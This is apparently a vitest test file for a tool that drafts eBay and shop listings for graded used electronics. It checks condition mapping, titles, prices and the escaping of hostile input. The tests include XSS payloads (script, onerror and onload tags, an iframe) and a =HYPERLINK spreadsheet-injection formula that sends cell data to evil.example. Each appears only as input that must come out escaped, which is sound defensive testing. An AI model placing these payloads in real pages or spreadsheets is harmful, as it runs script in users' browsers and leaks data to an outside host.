import { describe, expect, it } from 'vitest';
import type { ItemDetail } from '../contract/items';
import { GRADES } from '../domain/grades';
import { LANGUAGES } from '../domain/status';
import {
  codePointLength,
  DEFAULT_TEMPLATES,
  describeJson,
  draftFactsFromItem,
  draftListing,
  EBAY_CONDITION_IDS,
  findHtmlProblems,
  type DraftFacts,
  type DraftResult,
  type ListingDraft,
} from './index';
import { SAMPLE_FACTS, sampleFacts } from './sample';

function ok(result: DraftResult): ListingDraft {
  if (!result.ok) throw new Error(`expected a draft, got ${result.reason}: ${result.message}`);
  return result;
}

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '</p><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '"><svg/onload=alert(1)>',
  '&lt;already escaped&gt; & {price}',
];

describe('draftListing, every grade in every language', () => {
  const expected = {
    new_sealed: ['NEW', 1000, 'new_sealed'],
    opened_packaging: ['NEW_OTHER', 1500, 'opened_packaging'],
    used: ['USED_VERY_GOOD', 4000, 'used'],
    lightly_damaged: ['NEW_WITH_DEFECTS', 1750, 'lightly_damaged'],
    heavily_damaged: ['FOR_PARTS_OR_NOT_WORKING', 7000, 'heavily_damaged'],
  } as const;

  for (const lang of LANGUAGES) {
    for (const grade of GRADES) {
      it(`${grade} in ${lang}`, () => {
        const facts = sampleFacts({
          grade,
          packaging: grade === 'new_sealed' ? 'sealed' : 'opened_intact',
          defects: grade === 'new_sealed' ? [] : [SAMPLE_FACTS.item.defects[0]!],
          accessoriesMissing: [],
        });
        const result = draftListing(facts, lang);
        if (grade === 'defective') {
          expect(result).toMatchObject({ ok: false, reason: 'not_listable' });
          return;
        }
        const draft = ok(result);
        const [conditionEnum, conditionId, titleKey] = expected[grade];
        expect(draft.conditionEnum).toBe(conditionEnum);
        expect(draft.conditionId).toBe(conditionId);
        expect(draft.conditionId).toBe(EBAY_CONDITION_IDS[draft.conditionEnum]);
        expect(codePointLength(draft.title)).toBeLessThanOrEqual(80);
        expect(draft.title.startsWith('Lenovo ThinkPad X1 Carbon Gen 11')).toBe(true);
        expect(draft.title.endsWith(DEFAULT_TEMPLATES[lang].titleCondition[titleKey])).toBe(true);
        // eBay ignores the condition description for new conditions: it stays empty…
        const isNew = ['NEW', 'NEW_OTHER', 'NEW_WITH_DEFECTS'].includes(conditionEnum);
        expect(draft.conditionDescription === '').toBe(isNew);
        expect(codePointLength(draft.conditionDescription)).toBeLessThanOrEqual(1000);
        // …and the reasons are in the listing description in every case.
        expect(draft.html).toContain(`<h2>${DEFAULT_TEMPLATES[lang].heading}</h2>`);
        expect(draft.sentences.length).toBeGreaterThan(0);
        for (const s of [...draft.sentences, ...draft.conditionSentences]) {
          expect(s.facts.length, s.text).toBeGreaterThan(0);
        }
        expect(findHtmlProblems(draft.html)).toEqual([]);
      });
    }
  }
});

describe('an item without defects', () => {
  it('says what was checked and nothing about marks', () => {
    const facts = sampleFacts({
      grade: 'used',
      defects: [],
      accessoriesMissing: [],
      packaging: 'opened_intact',
    });
    const draft = ok(draftListing(facts, 'en'));
    expect(draft.conditionEnum).toBe('USED_EXCELLENT');
    expect(draft.conditionDescription).toBe(
      'The product has been used. The box has been opened but is in good condition. ' +
        'Included: USB-C charger, quick start guide. ' +
        'Tested, reset to factory settings and cleaned.',
    );
    expect(draft.sentences.some((s) => s.facts.some((f) => f.startsWith('defect:')))).toBe(false);
  });
});

describe('hostile text typed by staff or in the catalogue', () => {
  const facts: DraftFacts = sampleFacts(
    {
      grade: 'used',
      accessoriesExpected: ['<b>charger</b>', 'manual'],
      accessoriesMissing: ['manual'],
      defects: HOSTILE.map((note, k) => ({
        id: k + 1,
        position: k + 1,
        kind: 'scratch' as const,
        location: k === 0 ? '<i>lid</i>' : 'lid',
        sizeMm: 1,
        severity: 'minor' as const,
        note,
        photoPosition: k + 1,
      })),
    },
    {
      brand: '<Brand>',
      title: '<script>alert("title")</script> Laptop',
      description: 'Fast.</p><script>alert(1)</script>\n\n<iframe src=//evil></iframe>',
    },
  );

  for (const lang of LANGUAGES) {
    for (const channel of ['ebay', 'shop'] as const) {
      it(`is shown as text, never markup (${lang}, ${channel})`, () => {
        const template = { intro: 'This {brand} <em>rocks</em> {title}', closing: '{nothing} <br>' };
        const draft = ok(draftListing(facts, lang, { channel, template }));
        expect(findHtmlProblems(draft.html)).toEqual([]);
        expect(draft.html).not.toMatch(/<(script|img|iframe|svg|i|b)\b/iu);
        expect(draft.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
        expect(draft.html).toContain('&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
        expect(draft.html).toContain(
          '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)',
        );
        expect(draft.html).toContain('&amp;lt;already escaped&amp;gt; &amp; {price}');
        expect(draft.html).toContain('This &lt;Brand&gt; &lt;em&gt;rocks&lt;/em&gt; &lt;script&gt;');
        expect(draft.html).toContain('&lt;b&gt;charger&lt;/b&gt;');
        // The plain-text field keeps the text exactly, formulas included: escaping is the display's job.
        expect(draft.conditionDescription).toContain('=HYPERLINK("http://evil.example/?"&A1,"Click")');
        expect(draft.conditionDescription).toContain('<img src=x onerror=alert(1)>');
        expect(draft.conditionDescription).toContain('{price}');
      });
    }
  }
});

describe('prices', () => {
  it('strikes the original price through next to the price, in the shop description only', () => {
    const shop = ok(draftListing(SAMPLE_FACTS, 'en', { channel: 'shop' }));
    expect(shop.html).toContain(
      '<p>Our price: <strong>€1,399.00</strong> instead of <s>€1,899.00</s> (you save €500.00).</p>',
    );
    const fr = ok(draftListing(SAMPLE_FACTS, 'fr', { channel: 'shop' }));
    expect(fr.html).toMatch(/<strong>1\s399,00\s€<\/strong> au lieu de <s>1\s899,00\s€<\/s>/u);
    const ebay = ok(draftListing(SAMPLE_FACTS, 'en', { channel: 'ebay' }));
    expect(ebay.html).not.toMatch(/<s>|€/u);
  });

  it('shows no struck price without a discount, and no price before pricing', () => {
    const same = ok(
      draftListing(sampleFacts({}, {}, SAMPLE_FACTS.product.originalCents), 'de', { channel: 'shop' }),
    );
    expect(same.html).toMatch(/<p>Unser Preis: <strong>1\.899,00\s€<\/strong><\/p>/u);
    expect(same.html).not.toContain('<s>');
    const unpriced = ok(draftListing(sampleFacts({}, {}, null), 'de', { channel: 'shop' }));
    expect(unpriced.html).not.toContain('Preis');
  });

  it('fills {savingPercent}, rounded down', () => {
    const draft = ok(
      draftListing(SAMPLE_FACTS, 'fr', {
        channel: 'shop',
        template: { priceLine: '{price} au lieu de {originalPrice}, soit −{savingPercent}' },
      }),
    );
    // 500 / 1899 = 26.3 %
    expect(draft.html).toMatch(/soit −26\s%/u);
  });
});

describe('conditions a category allows', () => {
  it('falls back to a worse condition and says so', () => {
    const facts = sampleFacts({ grade: 'opened_packaging', defects: [] });
    const draft = ok(draftListing(facts, 'en', { allowedConditionIds: [1000, 3000, 7000] }));
    expect(draft).toMatchObject({
      conditionEnum: 'USED_EXCELLENT',
      conditionId: 3000,
      conditionFallbackFrom: 'NEW_OTHER',
    });
    // Not a new condition any more, so the description is filled.
    expect(draft.conditionDescription).not.toBe('');
    expect(draft.title.endsWith('Open box')).toBe(true);
  });

  it('refuses when the category only has better conditions', () => {
    const facts = sampleFacts({ grade: 'heavily_damaged' });
    expect(draftListing(facts, 'fr', { allowedConditionIds: [1000, 1500, 3000] })).toMatchObject({
      ok: false,
      reason: 'no_allowed_condition',
      mapped: 'FOR_PARTS_OR_NOT_WORKING',
    });
  });
});

describe('refusals', () => {
  it('never lists a defective item, in any language or channel', () => {
    for (const lang of LANGUAGES) {
      for (const channel of ['ebay', 'shop'] as const) {
        expect(draftListing(sampleFacts({ grade: 'defective' }), lang, { channel })).toMatchObject({
          ok: false,
          reason: 'not_listable',
        });
      }
    }
  });

  it('refuses malformed facts and templates with their issues', () => {
    const bad = { ...SAMPLE_FACTS, proposedCents: 12.5 } as DraftFacts;
    expect(draftListing(bad, 'en')).toMatchObject({ ok: false, reason: 'invalid_facts' });
    const result = draftListing(SAMPLE_FACTS, 'en', { template: { heading: 'x'.repeat(500) } });
    expect(result).toMatchObject({ ok: false, reason: 'invalid_template' });
  });
});

describe('describeJson', () => {
  it('is what `rebound describe --json` prints', () => {
    const json = describeJson(ok(draftListing(SAMPLE_FACTS, 'de')));
    expect(Object.keys(json)).toEqual([
      'title',
      'conditionEnum',
      'conditionId',
      'conditionDescription',
      'html',
    ]);
    expect(json.conditionDescription).toContain('Kleiner Kratzer (ca. 2 mm) am Deckel – siehe Foto 3.');
  });
});

describe('draftFactsFromItem', () => {
  const photo = (id: number, position: number, isMain: boolean) => ({
    id,
    hash: `h${id}`,
    position,
    isMain,
    width: 1600,
    height: 1200,
    warnings: [],
    source: 'file',
  });
  const detail = {
    reference: 'RB-1',
    brand: 'Lenovo',
    model: 'X1',
    title: 'Lenovo X1',
    originalCents: 1000,
    currency: 'EUR',
    grade: 'used',
    packaging: 'opened_intact',
    accessoriesExpected: ['charger'],
    accessoriesMissing: [],
    functionalTest: 'passed',
    factoryReset: true,
    cleaned: false,
    repackaged: false,
    photos: [photo(7, 1, false), photo(8, 2, true), photo(9, 3, false)],
    defects: [
      { id: 30, kind: 'dent', location: 'lid', sizeMm: 3, severity: 'minor', note: '', photoId: 9 },
      { id: 31, kind: 'scratch', location: 'base', sizeMm: null, severity: 'minor', note: '', photoId: 7 },
    ],
    price: { proposedCents: 800 },
  } as unknown as ItemDetail;

  it('numbers photos as the listing sends them: main first, then by position', () => {
    const facts = draftFactsFromItem(detail, 'Text');
    expect(facts.item.defects.map((d) => [d.id, d.position, d.photoPosition])).toEqual([
      [30, 1, 3],
      [31, 2, 2],
    ]);
    expect(facts.proposedCents).toBe(800);
    expect(ok(draftListing(facts, 'en')).conditionDescription).toContain('on the lid — see photo 3');
  });

  it('refuses an ungraded item', () => {
    expect(() => draftFactsFromItem({ ...detail, grade: null }, '')).toThrow(/not been graded/u);
  });
});
